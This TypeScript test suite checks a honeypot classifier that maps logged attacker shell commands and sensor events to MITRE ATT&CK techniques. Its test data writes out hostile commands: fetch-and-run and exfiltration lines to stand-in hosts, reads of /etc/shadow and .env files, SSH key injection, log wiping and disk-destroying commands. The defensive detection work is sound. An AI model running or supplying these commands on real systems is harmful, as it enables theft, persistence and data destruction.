import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { EventFields } from '#src/data/index.js';
import { ATTACK_STAGES, ATTACK_TECHNIQUES, attackTechnique } from '#src/features/index.js';
import { COMMAND_RULES } from '#src/features/samples/command-rules.js';
import { shellCommands } from '#src/features/samples/command-words.js';
import { build, column, commandAt, eventAt, loginAt } from './sample-events.js';

const of = (line: string) => attackTechnique(commandAt(0, line))?.id;
const shown = (fields: EventFields) => attackTechnique(eventAt(0, fields))?.id;

describe('techniques', () => {
  it('have the ids and names of MITRE ATT&CK 17.0', () => {
    const file = new URL('../../../parity/frozen/attack-techniques.json', import.meta.url);
    const { version, names } = JSON.parse(readFileSync(file, 'utf8'));
    expect(version).toBe('17.0');
    expect(Object.fromEntries(ATTACK_TECHNIQUES.map(({ id, name }) => [id, name]))).toEqual(names);
  });

  it('stand in the order of their stages, each of which has one', () => {
    const stages = ATTACK_TECHNIQUES.map(({ stage }) => ATTACK_STAGES.indexOf(stage));
    expect(stages).toEqual(stages.toSorted((a, b) => a - b));
    expect(new Set(stages).size).toBe(ATTACK_STAGES.length);
    const known = ATTACK_TECHNIQUES.map(({ id }) => id);
    expect(COMMAND_RULES.filter(({ technique }) => !known.includes(technique))).toEqual([]);
  });
});

describe('the technique of an event', () => {
  it('is told by what a sensor logs', () => {
    expect(attackTechnique(loginAt(0))?.id).toBe('T1110');
    expect(attackTechnique(loginAt(0, { 'event.outcome': 'success' }))?.id).toBe('T1078');
    expect(shown({})).toBe('T1595');
    expect(shown({ 'event.action': 'dionaea.login' })).toBe('T1110');
    expect(shown({ 'event.action': 'dionaea.connection.accept' })).toBe('T1595');
    expect(shown({ 'event.action': 'opencanary.ssh_login_attempt' })).toBe('T1110');
    expect(shown({ 'event.action': 'opencanary.http_post_login_attempt' })).toBe('T1110');
    expect(shown({ 'event.action': 'opencanary.port_syn' })).toBe('T1595');
    expect(shown({ 'event.action': 'cowrie.direct-tcpip.request' })).toBe('T1090');
    expect(shown({ 'event.action': 'cowrie.session.file_upload' })).toBe('T1105');
  });

  it('is none where an event shows none', () => {
    for (const action of ['cowrie.session.closed', 'cowrie.client.version', 'opencanary.base_boot', 'SF'])
      expect(shown({ 'event.action': action })).toBeUndefined();
    // What is typed into a database is no command of a shell.
    const fields = { 'event.action': 'dionaea.mysql.command', 'process.command_line': 'wget x' };
    expect(shown(fields)).toBeUndefined();
  });

  it('is a download only where something came from elsewhere', () => {
    const action = 'cowrie.session.file_download';
    expect(shown({ 'event.action': action, 'url.original': 'http://192.0.2.7/x' })).toBe('T1105');
    expect(shown({ 'event.action': `${action}.failed`, 'url.original': 'tftp://192.0.2.7/x' })).toBe('T1105');
    expect(shown({ 'event.action': action, 'url.original': '/dev/null' })).toBeUndefined();
    expect(shown({ 'event.action': action })).toBeUndefined();
  });

  it.each([
    ['T1082', 'uname -a', '/bin/uname', 'cat /proc/cpuinfo', 'free -m', 'uptime', 'cat /etc/issue'],
    ['T1033', 'whoami', 'id', 'w', 'last'],
    ['T1057', 'ps -x', 'top'],
    ['T1087', 'cat /etc/passwd', 'grep root /etc/passwd'],
    ['T1016', 'ifconfig', '/ip cloud print', 'cat /etc/hosts'],
    ['T1049', 'netstat -an'],
    ['T1046', 'nmap -sT -p 22,80 192.168.1.0/24'],
    ['T1083', 'ls -la', 'find / -name x', 'pwd'],
    ['T1552.001', "grep -i 'password' /var/www/html/wp-config.php", 'cat /var/www/html/.env'],
    ['T1003.008', 'cat /etc/shadow'],
    ['T1105', 'wget http://192.0.2.7/x', 'sudo curl -O http://a/b', 'busybox tftp -g x', 'PATH=/bin wget x'],
    [
      'T1105',
      'w\\get x',
      "'wget' x",
      'sh -c "cd /tmp; wget http://a/b"',
      ['wget$', 'http://a/b'].join('{IFS}'),
      'echo $(wget x)',
    ],
    ['T1048', "curl -F 'data=@backup.tar.gz' http://a/upload"],
    ['T1021.004', 'ssh root@192.0.2.9', 'sshpass -p [redacted:8] ssh root@192.0.2.9'],
    ['T1222.002', 'chmod 0777 /var/tmp/exp', 'chattr -i x'],
    ['T1070', 'rm -f /var/log/wtmp', 'history -c', '> /var/log/lastlog', 'rm -rf exp'],
    ['T1562', 'service iptables stop', '/etc/init.d/iptables stop', 'SuSEfirewall2 stop', 'iptables -F'],
    ['T1562', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'systemctl disable firewalld'],
    ['T1027', 'echo -en "\\x31\\x33"', 'echo aGk= | base64 -d', "printf '\\x6b'"],
    ['T1053.003', 'crontab -', 'echo "* * * * * x" >> /etc/crontab', '(crontab -l; echo x) | crontab -'],
    ['T1098.004', 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys'],
    ['T1098', 'echo root:[redacted:9]|chpasswd', 'passwd'],
    ['T1136', 'useradd -m hacker', 'adduser x'],
    ['T1543.002', 'systemctl enable botnet.service'],
    ['T1037.004', 'echo "cd /tmp/" >>/etc/rc.local', 'chkconfig --add x'],
    ['T1489', 'systemctl stop mysql', 'service sshd stop', 'killall -9 x', 'pkill bot'],
    ['T1529', 'reboot', 'echo c > /proc/sysrq-trigger'],
    ['T1485', 'rm -rf /', 'dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/sdb'],
    ['T1496', './xmrig -o pool.com:3333 -u x', 'wget http://a/xmrig.tar.gz'],
    [
      'T1059.004',
      'cd /tmp',
      './tfhy',
      'nohup /var/tmp/exp > /dev/null 2>&1 &',
      '',
      'echo stop',
      'crontab -l',
    ],
    ['T1059.004', 'echo "wget http://a/b"', 'true', '> ls', 'iptables -L'],
  ])('is %s of %s and its like', (id, ...lines) => {
    expect(lines.map((line) => `${line}: ${of(line)}`)).toEqual(lines.map((line) => `${line}: ${id}`));
  });

  it('is the furthest of a line of several commands, in whatever order they come', () => {
    const parts = ['uname -a', 'cd /tmp', 'chmod 777 x', 'wget http://a/x', 'ls'];
    expect(of(parts.join(';'))).toBe('T1105');
    expect(of(parts.toReversed().join(' && '))).toBe('T1105');
    expect(of(['uname -a', 'cd /tmp', 'ls'].join('\n'))).toBe('T1082');
    expect(of('curl -s http://a/x.sh | bash')).toBe('T1105');
  });
});

describe('commands of a line', () => {
  const names = (line: string) => shellCommands(line).map(({ name }) => name);

  it('are parted as a shell parts them', () => {
    expect(names('a;b|c&d\ne`f`(g)')).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    expect(names('a \'b;c\' "d|e" f\\;g; h')).toEqual(['a', 'h']);
    expect(names('if sudo -n nohup /usr/bin/x 2>&1 &>/dev/null; then y; fi')).toEqual(['x', 'y', 'fi']);
    expect(shellCommands('echo "a b" \'c\'d >>/e 2> f')).toEqual([
      { name: 'echo', words: ['echo', 'a b', 'cd', '/e', 'f'], writes: ['/e', 'f'] },
    ]);
    expect(shellCommands('sh -c "a; b c"').map(({ words }) => words)).toEqual([
      ['sh', '-c', 'a; b c'],
      ['a'],
      ['b', 'c'],
    ]);
  });

  it('take a secret that was replaced for one word', () => {
    expect(shellCommands('mysql -u root -p[redacted:12] db')[0]!.words).toEqual([
      ...['mysql', '-u', 'root', '-p[redacted:12]', 'db'],
    ]);
  });

  it('are found in any text, without an end to it, and lose no letter of it', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...`ab;|&'"\\ >$({})\n\0`), maxLength: 60 }), (line) => {
        const words = shellCommands(line).flatMap((command) => command.words);
        const letters = (text: string) => text.replace(/[^ab]/g, '').length;
        expect(letters(words.join(''))).toBe(letters(line));
      }),
      { numRuns: 1000 },
    );
  });

  it('are read once of hostile lines of a million characters', () => {
    const lines = ['"', "'", '\\', ';', '> ', '$(', '`', '((', 'sh -c "', "a'"].map((text) =>
      text.repeat(Math.ceil(1_000_000 / text.length)),
    );
    for (const line of lines) expect(of(line)).toBe('T1059.004');
    expect(of(`${'x '.repeat(500_000)}; wget x`)).toBe('T1105');
  });
});

describe('taxonomies', () => {
  const events = [
    ...[eventAt(0), loginAt(1), loginAt(2, { 'event.outcome': 'success' })],
    ...[commandAt(3, 'wget http://a/b'), commandAt(4, 'uname -a')],
    eventAt(5, { 'event.action': 'cowrie.session.closed' }),
    eventAt(6, { session: 'b' }),
    eventAt(7, { session: 'c', 'event.action': 'cowrie.session.closed' }),
  ];
  const session = { unit: 'session', history: false } as const;

  it('name each event by its technique; what shows none is left out', () => {
    const rule = { taxonomy: 'attack-technique' } as const;
    const { table, unlabelled } = build({ unit: 'event', history: false }, events, rule);
    expect(column(table, 'y')).toEqual([
      ...['T1595 Active Scanning', 'T1110 Brute Force', 'T1078 Valid Accounts'],
      ...['T1105 Ingress Tool Transfer', 'T1082 System Information Discovery', 'T1595 Active Scanning'],
    ]);
    expect(unlabelled).toBe(2);
  });

  it('name each session by the furthest of its events', () => {
    const technique = build(session, events, { taxonomy: 'attack-technique' });
    expect(column(technique.table, 'y')).toEqual(['T1105 Ingress Tool Transfer', 'T1595 Active Scanning']);
    expect(technique).toMatchObject({ unlabelled: 1, ambiguous: 0 });
    const stage = build(session, events, { taxonomy: 'session-stage' });
    expect(column(stage.table, 'y')).toEqual(['transfer', 'connect']);
  });

  it('put classes together, which go as far as the furthest of them', () => {
    const classes = { connect: 'harmless', 'login-attempt': 'harmless', login: 'in', transfer: 'in' };
    const { table } = build(session, events, { taxonomy: 'session-stage', classes });
    expect(column(table, 'y')).toEqual(['in', 'harmless']);
  });

  it('tell that the window holds the event that went furthest; that a session began tells nothing', () => {
    const count = (spec: object) =>
      build({ ...session, ...spec }, events, { taxonomy: 'session-stage' }).labelInWindow;
    expect(count({})).toBe(1);
    expect(count({ maxSeconds: 3 })).toBe(1);
    expect(count({ maxSeconds: 2.5 })).toBe(0);
    expect(count({ until: { 'event.action': 'cowrie.login.*' } })).toBe(0);
  });
});
